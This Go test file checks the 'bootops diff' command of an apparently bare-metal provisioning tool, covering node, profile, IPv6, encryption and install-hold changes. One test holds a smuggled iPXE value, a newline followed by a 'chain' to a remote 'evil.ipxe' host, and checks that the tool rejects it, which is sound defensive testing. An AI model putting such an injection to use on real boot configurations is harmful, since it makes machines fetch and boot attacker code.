package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/bootops/bootops/reconciler"
)

// gitRepo is a real repository in a temporary folder holding the warehouse
// example, committed on main.
func gitRepo(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "fleet")
	if err := os.CopyFS(dir, os.DirFS("../../examples/warehouse")); err != nil {
		t.Fatal(err)
	}
	git(t, dir, "init", "-q", "-b", "main")
	git(t, dir, "add", "-A")
	git(t, dir, "commit", "-q", "-m", "warehouse")
	return dir
}

func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid", "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

func edit(t *testing.T, dir, name, from, to string) {
	t.Helper()
	p := filepath.Join(dir, name)
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), from) {
		t.Fatalf("%s has no %q", name, from)
	}
	os.WriteFile(p, []byte(strings.Replace(string(b), from, to, 1)), 0o644)
}

func diffJSON(t *testing.T, args ...string) (int, reconciler.ChangeSet, string) {
	t.Helper()
	code, out, errs := bootops(t, nil, append([]string{"diff", "--format", "json"}, args...)...)
	var cs reconciler.ChangeSet
	if code == 0 || code == 2 {
		if err := json.Unmarshal([]byte(out), &cs); err != nil {
			t.Fatalf("diff -o json: %v\n%s", err, out)
		}
	}
	return code, cs, errs
}

func TestDiff(t *testing.T) {
	dir := gitRepo(t)
	nodes := "sites/warehouse/nodes/"
	// Identical revisions: no change, exit 0 even with --detailed-exitcode.
	if code, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--detailed-exitcode"); code != 0 || !strings.Contains(out, "No changes") {
		t.Errorf("identical: %d %s %s", code, out, errs)
	}

	// A feature branch: add, remove, change, move without change,
	// reprovision, a profile edit reaching many nodes, a binary file.
	git(t, dir, "checkout", "-q", "-b", "feature")
	os.WriteFile(filepath.Join(dir, nodes+"rack9-01.yaml"), []byte("apiVersion: bootops.dev/v1alpha1\nkind: Node\nname: rack9-01\nidentity: {serial: SN-R9-01}\n"), 0o644)
	os.Remove(filepath.Join(dir, nodes+"rack1-20.yaml"))
	edit(t, dir, nodes+"rack1-01.yaml", "profile: microvisor", "profile: ubuntu-24-04")
	os.MkdirAll(filepath.Join(dir, "sites/warehouse/moved"), 0o755)
	git(t, dir, "mv", nodes+"rack1-05.yaml", "sites/warehouse/moved/rack1-05.yaml")
	b, _ := os.ReadFile(filepath.Join(dir, nodes+"rack1-03.yaml"))
	os.WriteFile(filepath.Join(dir, nodes+"rack1-03.yaml"), append(b, "reprovision: 1\n"...), 0o644)
	edit(t, dir, "profiles/ubuntu-24-04.yaml", "release-20250430", "release-20250530")
	os.WriteFile(filepath.Join(dir, "logo.png"), []byte("\x89PNG\r\n\x1a\n\x00\x00binary"), 0o644)
	git(t, dir, "add", "-A")
	git(t, dir, "commit", "-q", "-m", "feature")

	code, cs, errs := diffJSON(t, dir, "--base", "main", "--head", "feature", "--detailed-exitcode")
	if code != 2 {
		t.Fatalf("diff: exit %d %s", code, errs)
	}
	kinds := map[string]string{}
	for _, n := range cs.Nodes {
		kinds[n.Name] = n.Kind
	}
	want := map[string]string{"rack9-01": "add", "rack1-20": "remove", "rack1-01": "change", "rack1-03": "reprovision"}
	for name, k := range want {
		if kinds[name] != k {
			t.Errorf("%s: %q, want %q (all: %v)", name, kinds[name], k, kinds)
		}
	}
	if _, ok := kinds["rack1-05"]; ok {
		t.Error("a node moved to another file, unchanged, is reported as a change")
	}
	var profile *reconciler.ObjectChange
	for i, o := range cs.Objects {
		if o.Object == "profile" && o.Name == "ubuntu-24-04" {
			profile = &cs.Objects[i]
		}
	}
	if profile == nil || len(profile.Reaches) != 9 || profile.Fields[0].Field != "image.url" {
		t.Errorf("profile fan-out: %+v", profile)
	}
	if s := cs.Summary; s.Add != 1 || s.Remove != 1 || s.Reprovision != 1 || s.Change != 1+9 {
		t.Errorf("summary: %+v", s)
	}

	// Text: the summary line, one line per node, the fan-out once.
	code, out, _ := bootops(t, nil, "diff", dir, "--base", "main", "--head", "feature")
	for _, w := range []string{
		"Plan: 1 to add, 10 to change, 1 to remove, 1 to reprovision (disks will be wiped).",
		"~ profile ubuntu-24-04  image.url: https://cloud-images.ubuntu.com/releases/noble/release-20250430/",
		"    reaches 9 nodes: warehouse/rack1-",
		"  +   rack9-01  serial: SN-R9-01, profile: microvisor",
		"  ~   rack1-01  profile: microvisor → ubuntu-24-04; renders ipxe, user-data, workflow differently",
		"  -/+ rack1-03  reprovision: 0 → 1; ",
		"; its disk will be wiped and reinstalled",
		"  -   rack1-20",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("text lacks %q:\n%s", w, out)
		}
	}
	if code != 0 {
		t.Errorf("without --detailed-exitcode: exit %d", code)
	}
	// --artifacts: unified diffs of the rendered files.
	_, out, _ = bootops(t, nil, "diff", dir, "--base", "main", "--head", "feature", "--artifacts")
	if !strings.Contains(out, "/warehouse/rack1-01/workflow") || !strings.Contains(out, "@@ ") {
		t.Errorf("--artifacts:\n%s", out)
	}
	// Markdown: a table, collapsed details.
	_, out, _ = bootops(t, nil, "diff", dir, "--base", "main", "--head", "feature", "--format", "markdown")
	for _, w := range []string{"### bootops diff `", "| 1 | 10 | 1 | 1 |", "<details>", "```diff\n", "+ rack9-01", "! rack1-01"} {
		if !strings.Contains(out, w) {
			t.Errorf("markdown lacks %q:\n%s", w, out)
		}
	}

	// Merge base: main moved on after feature branched off; the diff
	// shows feature's changes only, as a pull request page does.
	git(t, dir, "checkout", "-q", "main")
	edit(t, dir, nodes+"rack1-02.yaml", "line: a", "line: z")
	git(t, dir, "commit", "-q", "-am", "main moves on")
	git(t, dir, "checkout", "-q", "feature")
	_, cs, _ = diffJSON(t, dir, "--base", "main", "--head", "feature")
	for _, n := range cs.Nodes {
		if n.Name == "rack1-02" {
			t.Error("a change made on main after the branch point shows in the feature's diff")
		}
	}
	// The working tree (uncommitted), the default head.
	edit(t, dir, nodes+"rack1-04.yaml", "rack: r1", "rack: r2")
	_, cs, _ = diffJSON(t, dir, "--base", "feature")
	if cs.Head != "working tree" || len(cs.Nodes) != 1 || cs.Nodes[0].Name != "rack1-04" || cs.Nodes[0].Fields[0].String() != "labels.rack: r1 → r2" {
		t.Errorf("working tree: %+v", cs)
	}
	// An invalid head: exit 1, errors prefixed by the revision.
	edit(t, dir, nodes+"rack1-04.yaml", "identity:", "idenity:")
	git(t, dir, "commit", "-q", "-am", "broken")
	code, _, errs = bootops(t, nil, "diff", dir, "--base", "main", "--head", "HEAD")
	if code != 1 || !strings.Contains(errs, "head "+git(t, dir, "rev-parse", "--short=7", "HEAD")+": sites/warehouse/nodes/rack1-04.yaml:4:1: idenity: unknown field") {
		t.Errorf("invalid head: %d %s", code, errs)
	}
	// A shallow clone without the base says what to fetch.
	shallow := filepath.Join(t.TempDir(), "shallow")
	git(t, filepath.Dir(shallow), "clone", "-q", "--depth", "1", "--branch", "feature", "file://"+dir, shallow)
	code, _, errs = bootops(t, nil, "diff", shallow, "--base", "main")
	if code != 1 || !strings.Contains(errs, "git fetch") {
		t.Errorf("shallow: %d %s", code, errs)
	}
	if code, _, errs := bootops(t, nil, "diff", dir); code != 2 || !strings.Contains(errs, "--base is required") {
		t.Errorf("no base: %d %s", code, errs)
	}
}

// A 10,000-node change stays a comment GitHub accepts.
func TestDiffMarkdownCapped(t *testing.T) {
	cs := &reconciler.ChangeSet{Base: "1a2b3c4", Head: "5d6e7f8"}
	for i := range 10000 {
		cs.Nodes = append(cs.Nodes, reconciler.NodeChange{Kind: reconciler.Changed, Site: "s", Name: fmt.Sprintf("node-%05d", i),
			Fields: []reconciler.FieldChange{{Field: "profile", Old: "ubuntu-22-04", New: "ubuntu-24-04"}}})
	}
	cs.Summary.Change = 10000
	md := diffMarkdown(cs, 60000)
	if len(md) >= 65000 || !strings.Contains(md, "more lines (run `bootops diff` locally") || !strings.HasSuffix(md, "```\n\n</details>\n") {
		t.Errorf("markdown of %d characters:\n%s", len(md), md[len(md)-300:])
	}
}

// --server marks the changed nodes a daemon reports provisioned.
func TestDiffServerAnnotation(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"source":{},"nodes":[{"key":"warehouse/rack1-01","site":"warehouse","node":"rack1-01","state":"provisioned"}],"unknown":[]}`)
	}))
	defer srv.Close()
	dir := gitRepo(t)
	edit(t, dir, "sites/warehouse/nodes/rack1-01.yaml", "rack: r1", "rack: r2")
	edit(t, dir, "sites/warehouse/nodes/rack1-02.yaml", "rack: r1", "rack: r2")
	_, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--server", srv.URL)
	if !strings.Contains(out, "rack1-01  labels.rack: r1 → r2; provisioned: changes only when reprovision is raised") || strings.Count(out, "provisioned: changes only") != 1 {
		t.Errorf("--server: %s\n%s", errs, out)
	}
}

// A MicroOS cmdline edit shows as the kernel line of every node's iPXE
// script; a newline smuggled into it (a second iPXE command) stops the diff
// with the positioned error of the head revision.
func TestDiffCmdline(t *testing.T) {
	dir := gitRepo(t)
	git(t, dir, "checkout", "-q", "-b", "console")
	edit(t, dir, "microos/default.yaml", "console=tty0 quiet\n", "console=tty0 quiet loglevel=3\n")
	git(t, dir, "commit", "-q", "-am", "loglevel")
	code, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--head", "console", "--artifacts", "--detailed-exitcode")
	if code != 2 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, w := range []string{
		"~ microOS default  cmdline: console=ttyS0,115200 console=tty0 quiet → console=ttyS0,115200 console=tty0 quiet loglevel=3",
		"microOS default: the rendered files of warehouse/rack1-01, the first of the 20 nodes it reaches",
		"/warehouse/rack1-01/ipxe",
		"-kernel http://", " console=ttyS0,115200 console=tty0 quiet\n",
		"+kernel http://", " console=ttyS0,115200 console=tty0 quiet loglevel=3\n",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("--artifacts lacks %q:\n%s", w, out)
		}
	}

	git(t, dir, "checkout", "-q", "-b", "smuggle")
	edit(t, dir, "microos/default.yaml", "cmdline: console=ttyS0,115200 console=tty0 quiet loglevel=3\n",
		"cmdline: \"console=ttyS0,115200 quiet\\nchain http://198.51.100.7/evil.ipxe\"\n")
	git(t, dir, "commit", "-q", "-am", "smuggle")
	code, out, errs = bootops(t, nil, "diff", dir, "--base", "console", "--head", "smuggle", "--artifacts")
	want := "head " + git(t, dir, "rev-parse", "--short=7", "HEAD") + ": microos/default.yaml:11:1: cmdline: contains a newline (\\n): iPXE would run the rest as a command of its own"
	if code != 1 || !strings.Contains(errs, want) || strings.Contains(out, "evil") {
		t.Errorf("smuggled newline: exit %d, want 1 and %q:\n%s\n%s", code, want, errs, out)
	}
}

// A change to what nodes install says how many would install something
// else, and with --server how many installed machines (provisioned or
// running) it puts out of date, and what of their install changes.
func TestDiffOutOfDate(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"source":{},"nodes":[`+
			`{"key":"warehouse/rack1-11","site":"warehouse","node":"rack1-11","state":"running"},`+
			`{"key":"warehouse/rack1-12","site":"warehouse","node":"rack1-12","state":"provisioned"},`+
			`{"key":"warehouse/rack1-13","site":"warehouse","node":"rack1-13","state":"booting"}],"unknown":[]}`)
	}))
	defer srv.Close()
	dir := gitRepo(t)
	f := filepath.Join(dir, "profiles/ubuntu-24-04.yaml")
	b, _ := os.ReadFile(f)
	sha := regexp.MustCompile(`sha256: [0-9a-f]{64}`).Find(b)
	os.WriteFile(f, bytes.Replace(b, sha, []byte("sha256: "+strings.Repeat("ab", 32)), 1), 0o644)
	_, out, _ := bootops(t, nil, "diff", dir, "--base", "main")
	if !strings.Contains(out, "\nInstalls: 10 nodes would install another image.\n") {
		t.Errorf("without --server:\n%s", out)
	}
	_, out, _ = bootops(t, nil, "diff", dir, "--base", "main", "--server", srv.URL, "--format", "json")
	var cs reconciler.ChangeSet
	if err := json.Unmarshal([]byte(out), &cs); err != nil {
		t.Fatal(err)
	}
	if n, what := cs.OutOfDate(); n != 2 || len(cs.Installs) != 10 || strings.Join(what, ",") != "image" {
		t.Errorf("json: %d out of date (%v) of %d installs", n, what, len(cs.Installs))
	}
	_, out, _ = bootops(t, nil, "diff", dir, "--base", "main", "--server", srv.URL)
	if !strings.Contains(out, "Installs: 10 nodes would install another image; 2 installed machines go out of date (image).") {
		t.Errorf("--server:\n%s", out)
	}
}

// IPv6: a site gaining IPv6, then its prefix and a node's reservation
// changing, each shown field by field.
func TestDiffIPv6(t *testing.T) {
	dir := gitRepo(t)
	site, node := "sites/warehouse/site.yaml", "sites/warehouse/nodes/rack1-03.yaml"
	git(t, dir, "checkout", "-q", "-b", "v6")
	edit(t, dir, site, "  dhcp: proxy\n", "  dhcp: proxy\n  ipv6: {serverAddress: \"2001:db8:1::1\", prefix: \"2001:db8:1::/64\", dhcp: reservation}\n")
	b, _ := os.ReadFile(filepath.Join(dir, node))
	os.WriteFile(filepath.Join(dir, node), append(b, "ipv6: 2001:db8:1::13\n"...), 0o644)
	git(t, dir, "commit", "-q", "-am", "ipv6")
	_, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--head", "v6")
	for _, w := range []string{
		"~ site warehouse  network.ipv6.dhcp: reservation, network.ipv6.prefix: 2001:db8:1::/64, network.ipv6.serverAddress: 2001:db8:1::1",
		"  ~   rack1-03  ipv6: 2001:db8:1::13; renders network-config differently",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("adding IPv6: the diff lacks %q:\n%s%s", w, out, errs)
		}
	}

	git(t, dir, "checkout", "-q", "-b", "renumber")
	edit(t, dir, site, "2001:db8:1::1\", prefix: \"2001:db8:1::/64\"", "2001:db8:2::1\", prefix: \"2001:db8:2::/64\"")
	edit(t, dir, node, "ipv6: 2001:db8:1::13", "ipv6: 2001:db8:2::13")
	git(t, dir, "commit", "-q", "-am", "renumber")
	code, cs, errs := diffJSON(t, dir, "--base", "v6", "--head", "renumber")
	if code != 0 || len(cs.Objects) != 1 || len(cs.Nodes) != 1 {
		t.Fatalf("renumbering: exit %d %s %+v", code, errs, cs)
	}
	var got []string
	for _, f := range append(cs.Objects[0].Fields, cs.Nodes[0].Fields...) {
		got = append(got, f.String())
	}
	want := []string{
		"network.ipv6.prefix: 2001:db8:1::/64 → 2001:db8:2::/64",
		"network.ipv6.serverAddress: 2001:db8:1::1 → 2001:db8:2::1",
		"ipv6: 2001:db8:1::13 → 2001:db8:2::13",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("renumbering: fields\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// Turning a profile's encryption on is one change of the profile, said on
// one line, reaching its nodes, each of which would install another
// workflow; changing only its recipients names them (in short).
func TestDiffEncryption(t *testing.T) {
	dir := gitRepo(t)
	const r1, r2, r3 = "age1nln4ej3qv59j2h0a0uxhdgttewy9uy5cgh9p3y8v38whdrm59gds48hddt",
		"age17s4lc8ntf947dp2z7mhxtky3ltngrpmnmfnycvmcks77yzpr59mqm37s04",
		"age1z9eaklrv5swc49wa2e7fytjvnm6xv4kc5fhklwg85djpq28cy3eqn94mq3"
	prof := "profiles/ubuntu-24-04.yaml"
	git(t, dir, "checkout", "-q", "-b", "fde")
	edit(t, dir, prof, "  sha256: bc471ca4", "  unlock: clevis\n  sha256: bc471ca4")
	edit(t, dir, prof, "workflow:\n", "encryption:\n  recovery:\n    age: ["+r1+", "+r2+"]\nworkflow:\n")
	git(t, dir, "commit", "-q", "-am", "encrypt")
	code, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--head", "fde", "--detailed-exitcode")
	if code != 2 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, w := range []string{
		"\nInstalls: 10 nodes would install another workflow.\n",
		"\n~ profile ubuntu-24-04  encryption: off → LUKS2 partition 1, TPM PCRs 7, 2 recovery recipients\n",
		"    reaches 10 nodes: warehouse/rack1-11, ",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("turning encryption on: the diff lacks %q:\n%s", w, out)
		}
	}
	if strings.Contains(out, "encryption.") || strings.Contains(out, r1) {
		t.Errorf("turning encryption on: the diff shows its fields one by one:\n%s", out)
	}

	git(t, dir, "checkout", "-q", "-b", "rotate")
	edit(t, dir, prof, r2, r3)
	git(t, dir, "commit", "-q", "-am", "rotate")
	code, cs, errs := diffJSON(t, dir, "--base", "fde", "--head", "rotate")
	if code != 0 || len(cs.Objects) != 1 || len(cs.Objects[0].Fields) != 1 {
		t.Fatalf("rotating a recipient: exit %d %s %+v", code, errs, cs)
	}
	want := "encryption.recipients: age17s4lc8…37s04, age1nln4ej…8hddt → age1nln4ej…8hddt, age1z9eakl…94mq3"
	if got := cs.Objects[0].Fields[0].String(); got != want {
		t.Errorf("rotating a recipient:\n got %s\nwant %s", got, want)
	}
}

// A site that holds its nodes (install: hold) changes every node's
// install; releasing one node is that node's change alone.
func TestDiffInstallHold(t *testing.T) {
	dir := gitRepo(t)
	site, node := "sites/warehouse/site.yaml", "sites/warehouse/nodes/rack1-03.yaml"
	git(t, dir, "checkout", "-q", "-b", "held")
	b, _ := os.ReadFile(filepath.Join(dir, site))
	os.WriteFile(filepath.Join(dir, site), append(b, "install: hold\n"...), 0o644)
	git(t, dir, "commit", "-q", "-am", "hold")
	_, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--head", "held")
	if !strings.Contains(out, "  ~   rack1-03  install: auto → hold\n") {
		t.Errorf("holding the site: the diff lacks rack1-03's install:\n%s%s", out, errs)
	}

	git(t, dir, "checkout", "-q", "-b", "release")
	b, _ = os.ReadFile(filepath.Join(dir, node))
	os.WriteFile(filepath.Join(dir, node), append(b, "install: auto\n"...), 0o644)
	git(t, dir, "commit", "-q", "-am", "release rack1-03")
	code, cs, errs := diffJSON(t, dir, "--base", "held", "--head", "release")
	if code != 0 || len(cs.Objects) != 0 || len(cs.Nodes) != 1 || cs.Nodes[0].Name != "rack1-03" {
		t.Fatalf("releasing one node: exit %d %s %+v", code, errs, cs)
	}
	if got := cs.Nodes[0].Fields[0].String(); got != "install: hold → auto" || len(cs.Nodes[0].Fields) != 1 {
		t.Errorf("releasing one node: fields %v, want install: hold → auto", cs.Nodes[0].Fields)
	}
}
